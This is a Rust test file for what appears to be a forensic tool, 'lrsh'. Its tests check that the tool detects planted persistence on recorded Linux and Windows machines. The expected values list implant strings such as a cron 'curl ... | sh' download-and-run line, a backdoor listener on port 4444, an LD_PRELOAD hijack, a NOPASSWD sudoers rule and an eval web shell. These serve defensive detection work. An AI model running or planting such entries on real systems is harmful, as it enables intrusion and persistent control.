//! Recorded devices: small trees made to look like machines that exist, and what the looking verbs tell of them, held as snapshots.
//!
//! `INSTA_UPDATE=always cargo test --test all recorded::` writes them anew; read the difference before it is committed.

use std::path::{Path, PathBuf};

use lrsh::protocol::Status;
use serde_json::Value;

use crate::kit::device::Device;
use crate::kit::windows;

/// A clean server, one with implants, a desktop.
pub const DEVICES: [&str; 3] = ["clean-server", "compromised-server", "desktop"];

/// Where a recorded device's tree is.
pub fn tree(device: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/recorded").join(device)
}

/// The rows of a command on a recorded device, without the times that a checkout gives its files.
pub fn rows(device: &str, command: &str) -> Vec<Value> {
    rows_at(&tree(device), command)
}

fn rows_at(tree: &Path, command: &str) -> Vec<Value> {
    let device = tree.display();
    let answer = Device::at(tree).run(command, &[], &[]);
    assert_eq!(answer.completed.status, Status::Completed, "{device}: {command}: {:?}", answer.completed);
    let mut rows = answer.rows();
    for row in rows.iter_mut().filter_map(Value::as_object_mut) {
        for key in ["unit_modified", "modified", "created", "next_run"] {
            if row.get(key).is_some_and(Value::is_string) {
                row.insert(key.to_owned(), Value::from("(when)"));
            }
        }
    }
    rows
}

#[test]
fn rows_are_as_recorded() {
    for device in DEVICES {
        for command in ["services", "drivers", "scheduledtasks", "startupfolders"] {
            insta::assert_json_snapshot!(format!("{device}-{command}"), rows(device, command));
        }
    }
}

#[test]
fn what_was_planted_stands_out() {
    let services = rows("compromised-server", "services");
    let of = |name: &str| services.iter().find(|row| row["service_name"] == name).unwrap_or_else(|| panic!("{name}"));
    assert_eq!(of("dbus-update.service")["start_type"], "auto");
    assert_eq!(of("run-r1f.service")["enabled"], "transient");
    assert_eq!(of("auditd.service")["start_type"], "disabled");
    assert_eq!(of("cron.service")["drop_ins"][0], "/etc/systemd/system/cron.service.d/override.conf");
    assert_eq!(of("netfs-helper")["runlevels"][0], "2");
    let hidden: Vec<Value> = rows("compromised-server", "drivers")
        .into_iter()
        .filter(|row| row["hidden"] == true)
        .map(|row| row["driver_name"].clone())
        .collect();
    assert_eq!(hidden, ["diamorphine_like", "nf_helper"]);
    for device in ["clean-server", "desktop"] {
        assert!(rows(device, "drivers").iter().all(|row| row["hidden"] == false), "{device}");
    }
}

/// The entries of `persistence` on a recorded device, each with the list it stands in.
fn persistent(device: &str) -> Vec<(String, Value)> {
    persistent_at(&tree(device))
}

fn persistent_at(tree: &Path) -> Vec<(String, Value)> {
    let device = tree.display();
    let answer = Device::at(tree).run("persistence", &[], &[]);
    assert_eq!(answer.completed.status, Status::Completed, "{device}: {:?}", answer.completed);
    let object = answer.object();
    let lists = object["autoruns"].as_object().unwrap().iter();
    let entries =
        lists.flat_map(|(list, entries)| entries.as_array().unwrap().iter().map(move |one| (list.clone(), one.clone())));
    let mut entries: Vec<(String, Value)> = entries.collect();
    for (_, entry) in &mut entries {
        entry["modified"] = Value::from("(when)");
    }
    entries
}

#[test]
fn persistence_is_as_recorded() {
    for device in DEVICES {
        insta::assert_json_snapshot!(format!("{device}-persistence"), persistent(device));
    }
}

#[test]
fn a_windows_disk_is_as_recorded() {
    let folder = tempfile::tempdir().unwrap();
    let disk = windows::disk(folder.path());
    for command in ["services", "drivers", "scheduledtasks", "startupfolders"] {
        insta::assert_json_snapshot!(format!("windows-{command}"), rows_at(&disk, command));
    }
    insta::assert_json_snapshot!("windows-persistence", persistent_at(&disk));
}

#[test]
fn every_implant_on_a_windows_disk_is_found() {
    // Where, what it runs, the technique.
    let implants = [
        (r"SOFTWARE\Microsoft\Windows\CurrentVersion\Run\\Updater", "up.exe -q", "T1547.001"),
        (r"Winlogon\\Userinit", r"C:\ProgramData\x.exe", "T1547.004"),
        (r"Image File Execution Options\sethc.exe\\Debugger", "cmd.exe", "T1546.012"),
        (r"CurrentVersion\Windows\\AppInit_DLLs", "hook.dll", "T1546.010"),
        (r"ControlSet001\Control\Lsa\\Authentication Packages", "mimilib", "T1547.002"),
        (r"_Classes\CLSID\{b5f8350b-0548-48b1-a6ee-88bd00b4a5e7}\InprocServer32\\(Default)", "shim.dll", "T1546.015"),
        (r"Environment\\UserInitMprLogonScript", "logon.bat", "T1037.001"),
        (r"Control Panel\Desktop\\SCRNSAVE.EXE", "saver.scr", "T1546.002"),
        (r"Software\Microsoft\Windows\CurrentVersion\RunOnce\\(Default)", "cmd /c del x", "T1547.001"),
        (r"C:\Users\max\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\fix.vbs", "fix.vbs", "T1547.001"),
        (r"Startup\Monitor.lnk", r"C:\Program Files\Some App\run.exe /monitor", "T1547.001"),
        (r"C:\Windows\System32\Tasks\Ghost", "powershell -enc AAAA", "T1053.005"),
        (r"C:\Windows\System32\Tasks\Maintain", r#"up.exe -q "a b""#, "T1053.005"),
        (r"Services\WinUpdate", r"(C:\Windows\System32\wuauserv32.dll)", "T1543.003"),
        (r"Services\rk", r"C:\Windows\Temp\rk.sys", "T1543.003"),
    ];
    let folder = tempfile::tempdir().unwrap();
    let found = persistent_at(&windows::disk(folder.path()));
    for (location, runs, technique) in implants {
        let here = found.iter().find(|(_, entry)| entry["location"].as_str().unwrap().ends_with(&location));
        let (_, entry) = here.unwrap_or_else(|| panic!("{location} is not there: {found:#?}"));
        assert!(entry["runs"].as_str().unwrap().contains(runs), "{entry}");
        assert_eq!((entry["technique"].as_str().unwrap(), &entry["shipped"]), (technique, &Value::Null), "{entry}");
    }
    let ghost = found.iter().find(|(_, entry)| entry["id"] == r"\Ghost").unwrap();
    assert!(ghost.1["error"].as_str().unwrap().starts_with("hidden"), "{ghost:?}");
}

#[test]
fn every_implant_is_found_and_none_reads_shipped() {
    // The list that it stands in, where, what it runs.
    let implants = [
        ("services", "/etc/systemd/system/dbus-update.service", ""),
        ("services", "/run/systemd/transient/run-r1f.service", ""),
        ("services", "/etc/systemd/system/cron.service.d/override.conf", "/dev/shm/.x/loader"),
        ("services", "/etc/systemd/system/nginx.service.d/10-env.conf", "LD_PRELOAD=/usr/local/lib/libnss_cache.so"),
        ("init", "/etc/init.d/netfs-helper", ""),
        ("init", "/etc/rc.local", ""),
        ("init", "/etc/systemd/system-generators/fs-gen", ""),
        ("kernel_modules", "/usr/lib/modules/6.1.0-37-amd64/updates/nf_helper.ko", ""),
        ("kernel_modules", "/etc/modules-load.d/nf_helper.conf:1", "nf_helper"),
        ("schedule_tasks", "/etc/cron.d/sysstat-update:1", "curl -fsSL http://203.0.113.9/x | sh"),
        ("schedule_tasks", "/etc/cron.daily/logcheck2", ""),
        ("schedule_tasks", "/var/spool/cron/crontabs/www-data:1", "/var/tmp/.ICE-unix/sshd -p 4444"),
        ("schedule_tasks", "/home/deploy/.config/systemd/user/sync.timer:2", "/home/deploy/.local/bin/sync"),
        ("at", "/var/spool/cron/atjobs/a0000301c9a1b2", "/var/tmp/.ICE-unix/sshd"),
        ("authorized_keys", "/root/.ssh/authorized_keys:1", "/usr/lib/.cache/sh"),
        ("preload", "/etc/ld.so.preload:1", "/usr/local/lib/libnss_cache.so"),
        ("udev", "/etc/udev/rules.d/75-net-fix.rules:1", "/usr/lib/.cache/up %k"),
        ("motd", "/etc/update-motd.d/98-fetch", ""),
        ("package_hooks", "/etc/apt/apt.conf.d/99-periodic:1", "/dev/shm/.x/loader"),
        ("pam", "/etc/pam.d/common-auth:3", "pam_exec.so"),
        ("pam", "/usr/lib/x86_64-linux-gnu/security/pam_unix.so", ""),
        ("shell_profiles", "/etc/profile.d/locale-fix.sh", ""),
        ("shell_profiles", "/root/.bashrc", ""),
        ("startup_folders", "/etc/xdg/autostart/at-spi-fix.desktop", "/usr/lib/.cache/up"),
        ("web", "/var/www/html/img/thumb.php", "runs code that is sent to it (eval)"),
        ("ssh", "/etc/ssh/sshrc", ""),
        ("ssh", "/etc/ssh/sshd_config.d/50-cloud.conf:1", "AuthorizedKeysCommand /usr/lib/.cache/keys"),
        ("privileges", "/etc/sudoers.d/90-www:1", "NOPASSWD: ALL"),
        ("privileges", "/etc/passwd:4", "sysadm is user 0"),
        ("network", "/etc/NetworkManager/dispatcher.d/90-fix", ""),
        ("other", "/etc/logrotate.d/apt2:3", "/dev/shm/.x/loader"),
        ("other", "/usr/local/lib/python3.11/dist-packages/zz-compat.pth:1", "os.system"),
    ];
    let found = persistent("compromised-server");
    for (list, location, runs) in implants {
        let here = found.iter().find(|(at, entry)| at == list && entry["location"] == location);
        let (_, entry) = here.unwrap_or_else(|| panic!("{location} is not in {list}: {found:#?}"));
        assert_eq!(entry["shipped"], false, "{entry}");
        assert!(entry["runs"].as_str().unwrap_or_default().contains(runs), "{entry}");
        assert!(entry["technique"].as_str().unwrap().starts_with('T'), "{entry}");
    }
    // What is not an implant is what the clean server has too.
    let clean = persistent("clean-server");
    let same = |entry: &Value| clean.iter().any(|(_, other)| other["location"] == entry["location"]);
    let planted: Vec<&Value> =
        found.iter().map(|(_, entry)| entry).filter(|entry| entry["shipped"] == false && !same(entry)).collect();
    for entry in planted {
        let of_implant = implants.iter().any(|(_, location, _)| entry["location"] == *location)
            || entry["location"].as_str().unwrap().contains("sync.service");
        assert!(of_implant, "{entry}");
    }
}

#[test]
fn on_a_clean_server_almost_everything_is_shipped() {
    let found = persistent("clean-server");
    let foreign: Vec<_> = found.iter().filter(|(_, entry)| entry["shipped"] != true).collect();
    assert!(foreign.len() <= 5, "{foreign:#?}");
    assert!(found.len() > 20, "{found:#?}");
}
